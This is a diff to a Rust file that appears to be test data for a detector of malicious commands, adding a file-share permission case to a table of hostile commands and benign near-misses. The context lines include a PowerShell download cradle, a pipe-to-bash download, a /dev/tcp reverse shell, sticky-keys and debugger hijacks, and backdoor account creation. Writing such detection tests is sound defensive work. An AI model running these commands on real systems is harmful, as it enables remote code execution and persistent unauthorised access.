@@ -11,7 +11,7 @@ fn found(command: &str) -> Vec<Kind> {
 
 /// A command that establishes the fact, and one near it that does not.
 #[rustfmt::skip]
-const EXAMPLES: [(Kind, &str, &str); 112] = [
+const EXAMPLES: [(Kind, &str, &str); 113] = [
     (Kind::DownloadCradle, "powershell IEX (New-Object Net.WebClient).DownloadString('http://a/b')", "powershell Invoke-WebRequest https://mirror/pkg.zip -OutFile pkg.zip"),
     (Kind::DownloadCradle, "curl -s http://203.0.113.7/a.sh | bash", "curl -O https://mirror/pkg.rpm"),
     (Kind::ReverseShell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i"),
@@ -85,6 +85,7 @@ const EXAMPLES: [(Kind, &str, &str); 112] = [
     (Kind::WmiSubscription, "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription", "Get-WmiObject Win32_Service"),
     (Kind::AccessibilityHijack, r"copy c:\windows\system32\cmd.exe c:\windows\system32\sethc.exe", r"copy c:\windows\system32\drivers\etc\hosts d:\backup"),
     (Kind::DebuggerHijack, r"reg add 'HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe' /v Debugger /d a.exe", r"reg query 'HKLM\Software\Microsoft\Windows NT\CurrentVersion'"),
+    (Kind::ShareChanged, r"net share data=c:\data /grant:everyone,full", "net share"),
     (Kind::NetshHelper, r"netsh add helper c:\temp\a.dll", "netsh show helper"),
     (Kind::ShimInstalled, r"sdbinst.exe -q c:\temp\a.sdb", "sdbinst.exe /?"),
     (Kind::AccountPersistence, "net user backdoor P@ss /add", "net user alice"),
